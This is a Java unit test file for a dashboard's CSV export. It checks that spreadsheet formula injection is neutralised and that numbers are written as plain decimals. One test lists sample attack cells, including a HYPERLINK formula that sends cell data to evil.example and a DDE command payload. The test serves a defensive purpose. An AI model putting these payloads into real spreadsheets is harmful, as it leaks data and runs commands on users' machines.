package io.pulseboard.http;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvParser;
import io.vertx.core.json.JsonArray;
import io.vertx.core.json.JsonObject;
import java.io.IOException;
import java.util.List;
import org.junit.jupiter.api.Test;

class CsvTest {
  /** One series of the metric {@code m} with a region label, one point per source. */
  static JsonObject history(String region, List<Double> values, List<String> sources) {
    JsonArray points = new JsonArray();
    for (int i = 0; i < values.size(); i++) {
      points.add(new JsonObject().put("ts", "2025-09-10T00:00:0" + i + "Z").put("value", values.get(i))
          .put("source", sources.get(i)));
    }
    return new JsonObject().put("metric", "m").put("series", new JsonArray().add(new JsonObject()
        .put("labels", new JsonObject().put("region", region)).put("points", points)));
  }

  /** The cells of every row, as a CSV reader sees them. */
  static List<List<String>> read(String csv) throws IOException {
    CsvMapper mapper = new CsvMapper().enable(CsvParser.Feature.WRAP_AS_ARRAY);
    try (MappingIterator<List<String>> rows = mapper.readerForListOf(String.class).readValues(csv)) {
      return rows.readAll();
    }
  }

  @Test
  void neutralises_formulas_with_a_quote_and_quotes_the_cell() throws IOException {
    List<String> attacks = List.of("=HYPERLINK(\"http://evil.example/?d=\"&A1,\"x\")", "=cmd|' /C calc'!A0",
        "@SUM(1)", "+1+1", "-2+3", "\t=1", "\r=1");
    String csv = Csv.of(history("=1+1", attacks.stream().map(a -> 1.0).toList(), attacks));
    List<List<String>> rows = read(csv);
    assertThat(rows.get(1).get(4)).isEqualTo("'=1+1");
    for (int i = 0; i < attacks.size(); i++) {
      assertThat(rows.get(i + 1).get(3)).isEqualTo("'" + attacks.get(i));
    }
    assertThat(csv).contains("\"'=1+1\"", "\"'@SUM(1)\"", "\"'+1+1\"",
        "\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"x\"\")\"");
  }

  @Test
  void prefixes_a_leading_quote_too_so_the_prefix_can_always_be_undone() throws IOException {
    String csv = Csv.of(history("kr", List.of(1.0), List.of("'=not a formula")));
    assertThat(read(csv).get(1).get(3)).isEqualTo("''=not a formula");
  }

  @Test
  void leaves_ordinary_text_alone() throws IOException {
    String csv = Csv.of(history("kr", List.of(1.0), List.of("weekly report, p. 3")));
    assertThat(csv).isEqualTo("metric,ts,value,source,region\r\nm,2025-09-10T00:00:00Z,1.0,\"weekly report, p. 3\",kr\r\n");
  }

  @Test
  void writes_values_as_plain_decimals_that_read_back_exactly() {
    assertThat(Csv.plain(7.0e8)).isEqualTo("700000000.0");
    assertThat(Csv.plain(10)).isEqualTo("10.0");
    assertThat(Csv.plain(1.0e-5)).isEqualTo("0.00001");
    assertThat(Csv.plain(-2.5e12)).isEqualTo("-2500000000000.0");
    assertThat(Csv.plain(0.1)).isEqualTo("0.1");
    assertThat(Csv.plain(-0.0)).isEqualTo("-0.0");
    for (double v : new double[] {Double.MAX_VALUE, Double.MIN_VALUE, -Double.MIN_NORMAL, 1.0 / 3, 123456789.123,
        4.35, 1e23, 9007199254740993.0}) {
      assertThat(Csv.plain(v)).doesNotContain("E");
      assertThat(Double.parseDouble(Csv.plain(v))).isEqualTo(v);
    }
  }
}
